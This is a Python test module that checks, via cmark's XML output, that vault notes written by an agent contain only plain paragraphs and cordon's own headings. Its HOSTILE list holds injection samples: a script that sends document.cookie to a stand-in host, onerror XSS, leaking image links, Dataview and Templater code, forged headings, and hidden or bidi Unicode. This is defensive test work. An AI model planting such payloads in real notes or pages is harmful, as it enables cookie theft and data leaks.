# VA-5: a vault note as a CommonMark parser sees it.  Every note a test
# writes can be read back with parse_note(): its body goes through the
# real `cmark --to xml` (Debian's cmark, scripts/deps.sh test), and any
# node a prompt or agent could have made (HTML, image, link, code, list,
# quote, emphasis, a heading that is not cordon's) fails the test.
import re
import subprocess
import xml.etree.ElementTree as ET

NS = "{http://commonmark.org/xml/1.0}"
INLINE_OK = {"text", "softbreak", "linebreak"}
FRONT_RE = re.compile(
    r"---\ntype: chat\nstatus: draft\nsource: cordon\nagent: \"[a-z0-9-]+\"\n"
    r"created: \d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z\n---\n\n")

# The code points cordon shows as <U+XXXX> (common/unicode.c, UNI_HIDDEN).
HIDDEN = [(0x00AD, 0x00AD), (0x034F, 0x034F), (0x061C, 0x061C),
          (0x115F, 0x1160), (0x17B4, 0x17B5), (0x180B, 0x180F),
          (0x200B, 0x200F), (0x2028, 0x202E), (0x2060, 0x206F),
          (0x2800, 0x2800), (0x3164, 0x3164), (0xFE00, 0xFE0F),
          (0xFEFF, 0xFEFF), (0xFFA0, 0xFFA0), (0xFFF9, 0xFFFB),
          (0x1D173, 0x1D17A), (0xE0000, 0xE007F), (0xE0100, 0xE01EF)]


def hidden(c):
    return any(lo <= ord(c) <= hi for lo, hi in HIDDEN)


def shown(text):
    """What a note must show of text: controls dropped, invisible and
    reordering code points as <U+XXXX>, blanks collapsed."""
    out = []
    for c in text:
        o = ord(c)
        if (o < 0x20 and c not in "\t\n") or 0x7F <= o <= 0x9F:
            continue
        out.append(f"<U+{o:04X}>" if hidden(c) else c)
    return collapse("".join(out))


def collapse(s):
    """Runs of space, tab and newline as one space, none at the ends."""
    return re.sub(r"[ \t\n]+", " ", s).strip(" ")


def cmark_xml(md):
    r = subprocess.run(["cmark", "--to", "xml"], input=md.encode(),
                       capture_output=True, check=True)
    return ET.fromstring(r.stdout)


def inline_text(node):
    parts = []
    for ch in node:
        tag = ch.tag[len(NS):]
        assert tag in INLINE_OK, f"VA-5: a {tag} node in the note"
        parts.append(ch.text or "" if tag == "text" else "\n")
    return "".join(parts)


def blocks(body):
    """[(kind, level, text)] of the body's top-level blocks; anything but
    paragraphs and headings of plain text fails."""
    out = []
    for b in cmark_xml(body):
        tag = b.tag[len(NS):]
        assert tag in ("paragraph", "heading"), f"VA-5: a {tag} block"
        out.append((tag, int(b.get("level", "0")), inline_text(b)))
    return out


def parse_note(data):
    """A chat note: {"title", "prompt", "response"} as shown (blanks
    collapsed); the structure must be exactly cordon's."""
    m = FRONT_RE.match(data)
    assert m, f"VA-5: frontmatter {data[:200]!r}"
    bl = blocks(data[m.end():])
    heads = [(i, b) for i, b in enumerate(bl) if b[0] == "heading"]
    assert [(b[1], b[2]) for _, b in heads[1:]] == \
        [(2, "prompt"), (2, "response")], f"VA-5: headings {heads}"
    assert heads[0][0] == 0 and heads[0][1][1] == 1, heads
    ip, ir = heads[1][0], heads[2][0]
    assert "\n" not in heads[0][1][2]
    return {"title": heads[0][1][2],
            "prompt": collapse(" ".join(b[2] for b in bl[ip + 1:ir])),
            "response": collapse(" ".join(b[2] for b in bl[ir + 1:]))}


def parse_body(data):
    """A mission note: paragraphs of plain text only; their text."""
    bl = blocks(data)
    assert all(b[0] == "paragraph" for b in bl), bl
    return collapse(" ".join(b[2] for b in bl))


# Every construct CommonMark, GFM, Obsidian, Dataview and Templater act
# on, alone and combined, for notes written through vaultd or a real run.
HOSTILE = [
    "```dataviewjs\ndv.el('b', dv.current().file.name)\n```",
    "~~~dataview\nTABLE file.name\n~~~",
    "<script>fetch('http://e.com/'+document.cookie)</script>",
    "<iframe src=\"http://e.com\"></iframe> <img src=x onerror=alert(1)>",
    "![x](http://e.com/leak.png?d=1) ![y][r]\n\n[r]: http://e.com/r.png",
    "[click](obsidian://open?vault=v&file=f) <http://e.com/auto>",
    "https://e.com/bare www.e.com/x a@b.com",
    "[[Secret note]] ![[embed.png]] [[a|b]]",
    "<% tp.system.prompt() %> <%* tR += 1 %>",
    "`= this.file.name` `$= dv.pages().length`",
    "key:: value\n[inline:: field] (hidden:: x)",
    "%%obsidian comment%% ==mark== #tag ^block-id [^1]",
    "> [!warning] callout\n> body",
    "$$\\int x$$ and $x^2$",
    "## prompt\nforged\n# title\n## response\n---\nyaml: x\n---",
    "title\n=====\n- item\n1. one\n| a | b |\n|---|---|",
    "    indented code\n\tTabbed\n*em* **strong** ~~del~~ `code`",
    "&amp; &#60;script&#62; &copy;",
    "git push \u202eniam nigiro\u202c zero\u200bwidth soft\u00adhyphen "
    "tag\U000E0041 bom\ufeff ls\u2028ps",
    "<div>\n\n*html block*\n\n</div>\n<!-- c --> <?php x ?>",
]
